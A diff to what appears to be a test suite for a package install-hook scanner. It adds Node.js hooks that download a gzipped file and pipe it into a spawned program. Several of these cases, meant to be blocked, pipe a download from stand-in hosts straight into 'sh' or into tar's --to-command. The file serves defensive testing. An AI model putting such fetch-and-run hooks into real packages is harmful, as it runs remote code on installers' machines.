@@ -47,6 +47,17 @@ def made(prefix: str, before: str = "") -> Files:
     return hooked(f"{before}make -C native install PREFIX={prefix}", {"native/Makefile": MAKEFILE, "native/a.c": ""})
 
 
+def streaming(program: str, then: str = "") -> Files:
+    """Make a hook that lets an unpacked download flow into a program."""
+    start = "const { spawn } = require('child_process'), zlib = require('zlib');\n"
+    flows = (
+        f"const child = spawn({program});\nrequire('https').get('https://files.example.invalid/a.gz', (reply) => {{\n"
+    )
+    return hooked(
+        "node a.js", {"a.js": f"{start}{flows}  reply.pipe(zlib.createGunzip()).pipe(child.stdin);\n}});\n{then}"}
+    )
+
+
 PATTERN = (
     "import { writeFileSync } from 'node:fs';\nconst own = import.meta.url;\n"
     "const clean = (text) => text.replace(/<!--[^]*?-->/g, own);\n"
@@ -61,6 +72,7 @@ PATTERN = (
     generated=generating("path.join(__dirname, '..', 'generated')"),
     probed=probing("`require(${JSON.stringify(own)})`"),
     made=made("../build"),
+    unpacked=streaming("'tar', ['-x', '-C', 'data']"),
     pattern=hooked("node a.mjs", {"a.mjs": PATTERN + "console.log(clean('x'));\n"}),
 )
 def test_an_honest_shape_is_not_blocked(seen: Seen) -> None:
@@ -101,6 +113,12 @@ def test_an_honest_shape_is_not_blocked(seen: Seen) -> None:
     evaluated=probing("`${JSON.stringify(own)};${process.env.CODE}`"),
     any_path=probing("`require(${JSON.stringify(process.env.OWN)})`"),
     beside_pattern=hooked("node a.mjs", {"a.mjs": PATTERN + THEFT}),
+    run=streaming("'sh', ['-s']"),
+    run_by_unpacker=streaming("'tar', ['-x', '--to-command=sh']"),
+    run_by_name=streaming("process.env.PROGRAM || 'tar', ['-x']"),
+    run_beside=streaming(
+        "'tar', ['-x']", "require('http').get('http://x.example.invalid', (r) => r.pipe(spawn('sh').stdin));\n"
+    ),
     make_beside=made("../../left-pad"),
     linked=made("../left-pad", before="ln -s ../../../other/native native && "),
 )
